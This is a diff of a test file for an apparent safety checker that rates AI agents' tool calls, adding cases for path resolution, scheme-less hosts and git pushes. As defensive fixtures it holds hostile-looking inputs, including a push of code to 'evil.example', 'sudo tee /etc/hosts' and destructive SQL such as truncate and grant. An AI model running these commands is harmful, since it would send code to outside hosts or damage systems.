@@ -134,6 +134,36 @@ describe('arguments', () => {
     expect(read('exec', { command: 'ls', workdir: 'a', cwd: 'b' }).findings).not.toEqual([]);
   });
 
+  test('a directory that the tool may ignore does not move its paths', () => {
+    const verdict = (tool: string, args: JsonObject, cwd: string | null = null) => judge({ ...callOf(tool, args), cwd }).verdict;
+    // OpenClaw's write takes no cwd: src/x is what it would write.
+    expect(verdict('write', { path: 'x', cwd: 'output' }, '/workspace/src')).toBe('hold');
+    expect(verdict('write', { path: 'x', cwd: '/workspace/output' })).toBe('hold');
+    expect(verdict('write', { path: 'output/x', cwd: '/etc' })).toBe('hold');
+    expect(verdict('write', { path: '/workspace/output/x', cwd: '/workspace/docs' })).toBe('allow');
+    // exec takes workdir, and no notice of cwd.
+    expect(verdict('exec', { command: 'cat ../a', workdir: 'docs' })).toBe('allow');
+    expect(verdict('exec', { command: 'cat ../a', cwd: 'docs' })).toBe('hold');
+    expect(verdict('shell_exec', { command: 'cat ../a', cwd: 'docs' })).toBe('allow');
+  });
+
+  test('an address without a scheme is a name, unless it looks like a host', () => {
+    const hosts = (url: string) => read('create_doc', { url }).hosts.map(({ host }) => host);
+    expect(hosts('doc-17')).toEqual([]);
+    expect(hosts('/docs/a')).toEqual([]);
+    expect(hosts('evil.example/x')).toEqual(['evil.example']);
+    expect(hosts('//evil.example/x')).toEqual(['evil.example']);
+  });
+
+  test('what an MCP server names as its resource lives there', () => {
+    expect(read('mcp_resource', { uri: 'file:///project/README.md' })).toMatchObject({ paths: [], hosts: [], findings: [] });
+  });
+
+  test('every spelling of a remote and a branch counts', () => {
+    expect(judge(callOf('git_push', { remote: 'origin', url: 'https://evil.example/a.git', branch: 'fix' })).verdict).toBe('hold');
+    expect(judge(callOf('git_push', { remote: 'origin', branch: 'fix', refspec: 'HEAD:main' })).verdict).toBe('hold');
+  });
+
   test('the commands of a shell call are shown', () => {
     const { commands, risk } = read('exec', { command: 'cat a.md | sudo tee /etc/hosts' });
     expect(commands.map(({ argv }) => argv?.[0])).toContain('cat');
@@ -171,9 +201,9 @@ describe('arguments', () => {
     ['select 1;\ntruncate users', 'red'],
     ['alter table users add column x int', 'red'],
     ['grant all on users to public', 'red'],
-    ["insert into users values ('x')", 'yellow'],
-    ['UPDATE users SET name = 1', 'yellow'],
-    ['create table x (y int)', 'yellow'],
+    ["insert into users values ('x')", 'red'],
+    ['UPDATE users SET name = 1', 'red'],
+    ['create table x (y int)', 'red'],
     ['who did we update last week', null],
     ["'", null],
     [`${'/*'.repeat(100_000)}`, null],
